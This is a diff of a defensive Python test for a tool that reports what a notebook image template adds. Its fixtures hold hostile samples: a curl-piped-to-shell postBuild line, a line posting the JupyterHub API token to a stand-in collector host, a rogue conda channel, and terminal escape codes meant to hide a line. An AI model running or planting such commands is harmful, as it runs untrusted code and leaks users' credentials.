@@ -963,7 +963,7 @@ def test_the_summary_names_every_channel_url_and_script_line(template_repo, tmp_
             "environment.yml": f"channels: [conda-forge, attackerchan]\ndependencies:\n"
             f"  - attackerchan::dask-gateway={gateway}\n  - pip\n"
             "  - pip:\n      - helper @ https://files.example/helper-1.0.tar.gz\n",
-            "postBuild": "#!/bin/bash\ncurl -sSL https://get.example/install.sh | sh\n",
+            "postBuild": "#!/bin/bash\ncurl -sSL https://get.example/install.sh | sh\necho ok  # \x1b[1A\x1b[2K\u202e\n",
             "start": HOSTILE_START,
             "a.ipynb": notebook("A"),
         },
@@ -976,8 +976,10 @@ def test_the_summary_names_every_channel_url_and_script_line(template_repo, tmp_
     assert "adds the conda channel 'attackerchan'" in output
     assert f"asks for attackerchan::dask-gateway={gateway}, but the hub installs dask-gateway={gateway}" in output
     assert "installs helper @ https://files.example/helper-1.0.tar.gz with pip from a URL" in output
-    assert "image/binder/postBuild now runs the source's 1 command lines at build time:" in output
+    assert "image/binder/postBuild now runs the source's 2 command lines at build time:" in output
     assert "    | curl -sSL https://get.example/install.sh | sh" in output
+    # a terminal's escapes in a line are shown, never acted on (erasing the line above)
+    assert "    | echo ok  # \\x1b[1A\\x1b[2K\\u202e" in output and "\x1b" not in output
     assert "image/binder/start now runs the source's 1 command lines in every notebook server" in output
     assert '    | curl -s -d "token=$JUPYTERHUB_API_TOKEN" https://collector.example/t || true' in output
 
